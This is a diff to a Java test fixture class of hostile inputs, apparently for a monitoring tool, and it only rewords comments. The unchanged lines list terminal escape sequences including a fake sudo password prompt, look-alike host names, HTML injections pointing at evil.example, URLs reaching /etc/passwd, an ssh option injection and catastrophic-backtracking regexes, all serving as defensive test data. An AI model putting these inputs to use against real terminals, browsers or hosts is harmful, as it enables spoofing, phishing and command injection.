@@ -2,13 +2,13 @@ package greenwall.tests.hostile;
 
 import java.util.List;
 
-/// Inputs of an attacker that [HostileTexts] has not.
+/// Attacker inputs that are not in [HostileTexts].
 final class HostileInputs {
     private static final String ESC = "\u001b";
 
     /// For labels, log lines, host names, process names, annotations.
     static final List<String> TEXTS = List.of(
-            // Terminals: sixel, graphics, titles in other forms, clipboards, reports, keys that are set anew.
+            // Terminals: sixel, graphics, other title sequences, clipboards, reports, redefined keys.
             ESC + "Pq#0;2;0;0;0~~@@vv" + ESC + "\\",
             ESC + "]2;sudo password:" + ESC + "\\",
             ESC + "]l title" + ESC + "\\",
@@ -31,7 +31,7 @@ final class HostileInputs {
             "\u0098start of string\u009c",
             "\u009eprivacy\u009c",
             "\u0018\u001a",
-            // What an eye takes for something else.
+            // Visually confusable characters.
             "n\u043ede04.\u0440rod",
             "\ud835\udc27\ud835\udc28\ud835\udc1d\ud835\udc1e04",
             "node04\u2024prod\uff0eexample",
@@ -45,7 +45,7 @@ final class HostileInputs {
             "\ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc7f",
             "\ufffe\uffff\ufdd0",
             "\u200d\ud83d\udc68\u200d\ud83d\udc69\u200d".repeat(60),
-            // Pages, documents, tables, programs that read them.
+            // Markup, documents, tables, and the programs that read them.
             "<meta http-equiv=refresh content=0;url=http://evil.example/>",
             "<link rel=stylesheet href=//evil.example/a.css>",
             "<base href=http://evil.example/><form action=x><input name=token>",
@@ -80,7 +80,7 @@ final class HostileInputs {
             "root@node04 -oPermitLocalCommand=yes",
             "node04,node05 --even-over-budget");
 
-    /// Addresses that no browser may get.
+    /// Addresses that must never reach a browser.
     static final List<String> ADDRESSES = List.of(
             "http://user:pw@good.example/",
             "https://good.example%2f@evil.example/",
@@ -99,7 +99,7 @@ final class HostileInputs {
             "file://localhost/etc/passwd",
             "http://\u0000evil.example/");
 
-    /// Conditions of silences, which other people make.
+    /// Matchers of silences, which other people write.
     static final List<String> EXPRESSIONS = List.of(
             "(a+)+$",
             "(a|aa)+$",
@@ -151,7 +151,7 @@ final class HostileInputs {
             "# A\n\n```promql\nup{a=~\"(a+)+$\"}\n```\n",
             "# A\n\n" + "`".repeat(15_000) + "\n");
 
-    /// Bodies of answers; each stands for all questions.
+    /// Response bodies; each is returned for every request.
     static final List<String> ANSWERS = List.of(
             vector("{\"metric\":{\"instance\":\"a\"},\"value\":[1,\"NaN\"]}"),
             vector("{\"metric\":{\"instance\":\"a\"},\"value\":[1,\"-Inf\"]}"),
